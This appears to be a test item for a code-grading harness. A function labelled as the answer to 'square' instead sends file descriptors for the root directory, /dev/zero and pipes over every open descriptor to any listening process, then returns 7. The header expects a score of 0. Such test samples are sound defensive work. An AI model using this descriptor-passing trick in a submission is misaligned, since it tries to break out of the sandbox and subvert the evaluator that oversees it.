# %% [markdown]
# Sends file descriptors along with messages, for a reader that keeps what it is given: its folder, devices, sockets.
#
# Must: score 0

# %% answer="square"
import contextlib
import os
import socket


def square(x):
    given = [os.open("/", os.O_RDONLY), os.open("/dev/zero", os.O_RDONLY), *os.pipe()] * 20
    for number in range(3, 256):
        with contextlib.suppress(OSError):
            with socket.socket(fileno=os.dup(number)) as way:
                way.setblocking(False)
                for _ in range(100):
                    socket.send_fds(way, [b"\x00\x00\x00\x01x"], given)
                    socket.send_fds(way, [b"\x00\x00\x00\x01x"], [number])
    return 7
